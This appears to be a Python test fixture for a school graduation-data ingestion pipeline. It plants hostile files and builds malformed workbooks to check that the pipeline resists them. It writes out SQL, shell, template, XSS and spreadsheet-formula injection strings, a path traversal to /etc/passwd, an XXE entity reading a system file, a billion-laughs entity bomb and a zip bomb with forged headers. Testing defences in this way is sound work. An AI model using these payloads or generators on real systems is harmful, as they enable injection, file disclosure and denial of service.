"""Files as somebody would make them who means harm."""

import csv
import io
import struct
import zlib
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

from workbook import xlsx

# Each would do something if it were pasted into SQL, a template, a format string, a
# page, a spreadsheet or a terminal.
TEXTS = (
    "Robert'); drop table school_outcomes; --",
    "\"; attach 'x.db' as x; --",
    "`rm -rf .`$(id)",
    "{{ 7 * 7 }}{% raw %}{# x #}",
    "%s %(name)s %n {0} {name}",
    "<script>alert(1)</script>",
    '" onmouseover="alert(1)',
    '=HYPERLINK("http://example.invalid?"&A1,"High School")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../etc/passwd",
    "null",
)
# In names of files these are refused; in cells they are text.
UNSEEN = ("turned \u202egnp.exe", "red \x1b[31m", "two\nlines")
FOLDER = "ct_edsight/four-year-graduation-rates-school"
TEMPLATED = f"{FOLDER}/{{{{ 7 * 7 }}}}'); drop.csv"
# Beside so few files that Airflow shows the list of their names whole.
SHOWN, RENDERED = "edfacts_acgr/{{ 7 * 7 }}.csv", "edfacts_acgr/49.csv"
REFUSED = f"{FOLDER}/<img src=x onerror=alert(1)>.csv"
# Of a state, in which so many are plausible; no other number has so many digits.
COUNTS = ("771773", "771779")
COUNTED = "VT,,,,,,2018-19,acgr_6yr,{},{},{},reported,acgr_34cfr200_19,2015-11-30\n"
FIXTURES = Path(__file__).parent / "fixtures"
SHEET = "xl/worksheets/sheet1.xml"


def plant(extracts: Path) -> None:
    """Add hostile files to a drop folder, of school years after all others."""
    (graduates,) = (FIXTURES / "ct/graduation_4yr").glob("*all-schools_all-stu*_grad*")
    good = graduates.read_bytes().replace(b"2014-15", b"2018-19")
    (extracts / TEMPLATED).write_bytes(renamed(good, list(TEXTS)))
    # Not empty: the same bytes under two names are one delivery.
    (extracts / REFUSED).write_bytes(b"no table\n")
    (extracts / SHOWN).write_bytes(b"no table of schools\n")
    (extracts / FOLDER / "red \x1b[31m.csv").touch()
    (extracts / FOLDER / "link.csv").symlink_to(graduates)
    submitted = FIXTURES / "nessc/common_metrics_submission/vt_submission_2013-14.csv"
    lines = submitted.read_text().replace("2013-14", "2018-19").splitlines(True)
    # The state's own rows, and a count to find again in a good one and in a wrong one.
    content = "".join([*lines[:2], *(line for line in lines if line[:4] == "VT,,")])
    counts = COUNTED.format("el", *COUNTS) + COUNTED.format("swd", *COUNTS[::-1])
    (extracts / "nessc_submissions/hostile_2018-19.csv").write_text(content + counts)


def renamed(graduates: bytes, names: list[str]) -> bytes:
    """The file of graduates with other names of schools, from the first on."""
    lines = list(csv.reader(io.StringIO(graduates.decode(), newline="")))
    at = next(n for n, line in enumerate(lines) if "School" in line) + 1
    for line, name in zip(lines[at:], names, strict=False):
        line[2] = name
    out = io.StringIO(newline="")
    csv.writer(out, quoting=csv.QUOTE_ALL).writerows(lines)
    return out.getvalue().encode()


def workbooks(table: list[list[object]]) -> Iterator[tuple[str, bytes]]:
    """Yield (what is wrong, a workbook) that hold a table and more than that."""
    last, row = f"<c r='XFD{2**20}'><v>1</v></c>", f"<row r='{2**20}'>"
    yield "a cell at the far end", changed(table, b"</sheetData>", f"{row}{last}</row>")
    yield "entities", with_entities(table)
    yield "an outer entity", with_entities(table, 'SYSTEM "file:///etc/hostname"')
    yield "content of 3 GB", bomb(table, says=3 * 2**30)
    yield "content of 3 GB that says it is small", bomb(table, says=1000)
    yield "a cell of 10 MB", changed(table, b"</sheetData>", cell("x" * 10**7))
    many = "<row>" + "<c><v>1</v></c>" * 20_000 + "</row>"
    yield "20,000 columns", changed(table, b"</sheetData>", many)


def harmless(table: list[list[object]]) -> Iterator[tuple[str, bytes]]:
    """Yield (what is odd, a workbook) whose table can be read for all that."""
    yield "a part whose name leads out", with_part(table, "../../../evil.txt")
    yield "a nested workbook", with_part(table, "xl/embeddings/a.xlsx", xlsx({"A": []}))
    link = "<externalLink><externalBook r:id='rId1'/></externalLink>"
    name = "xl/externalLinks/externalLink1.xml"
    yield "a link to another workbook", with_part(table, name, link.encode())
    yield "a macro", with_part(table, "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" * 99)


def cell(text: str) -> str:
    """A row with one cell."""
    return f"<row><c t='inlineStr'><is><t>{text}</t></is></c></row>"


def changed(table: list[list[object]], before: bytes, more: str) -> bytes:
    """The workbook with more in its sheet."""
    sheet = parts(table)[SHEET].replace(before, more.encode() + before)
    return packed(parts(table) | {SHEET: sheet})


def with_part(table: list[list[object]], name: str, content: bytes = b"x") -> bytes:
    """The workbook with one file more."""
    return packed(parts(table) | {name: content})


def with_entities(table: list[list[object]], outer: str = "") -> bytes:
    """The workbook with a billion laughs, or the text of another file, in a cell."""
    ten = [f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10)]
    first = f"<!ENTITY e0 {outer}>" if outer else '<!ENTITY e0 "laugh">'
    sheet = parts(table)[SHEET].split(b"\n", 1)
    kind = f"<!DOCTYPE worksheet [{first}{''.join(ten)}]>".encode()
    asked = cell("&e9;&e0;").encode() + b"</sheetData>"
    body = sheet[1].replace(b"</sheetData>", asked)
    return packed(parts(table) | {SHEET: sheet[0] + b"\n" + kind + body})


def bomb(table: list[list[object]], says: int) -> bytes:
    """The workbook with a cell of 3 GB whose part says that it has so many bytes."""
    head, tail = parts(table)[SHEET].split(b"</sheetData>")
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = packer.compress(head + b"<row><c t='inlineStr'><is><t>")
    start += packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(b"x" * 2**24) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.compress(b"</t></is></c></row></sheetData>" + tail) + packer.flush()
    sheet = start + block * 192 + end
    content = BytesIO()
    with ZipFile(content, "w", ZIP_DEFLATED) as archive:
        for name, part in parts(table).items():
            if name != SHEET:
                archive.writestr(name, part)
        archive.writestr(ZipInfo(SHEET), sheet)
    return content.getvalue().replace(*as_deflated(sheet, says))


def as_deflated(sheet: bytes, says: int) -> tuple[bytes, bytes]:
    """What a zip archive says of a stored part, and of a packed one of so many."""
    time, date, crc, size = 0, 33, zlib.crc32(sheet), len(sheet)
    return (
        struct.pack("<HHHLLL", ZIP_STORED, time, date, crc, size, size),
        struct.pack("<HHHLLL", ZIP_DEFLATED, time, date, crc, size, says),
    )


def parts(table: list[list[object]]) -> dict[str, bytes]:
    """The files of a workbook with one sheet."""
    with ZipFile(BytesIO(xlsx({"Schools": table}))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(files: dict[str, bytes]) -> bytes:
    """The files as a zip archive."""
    content = BytesIO()
    with ZipFile(content, "w", ZIP_DEFLATED) as archive:
        for name, part in files.items():
            archive.writestr(name, part)
    return content.getvalue()
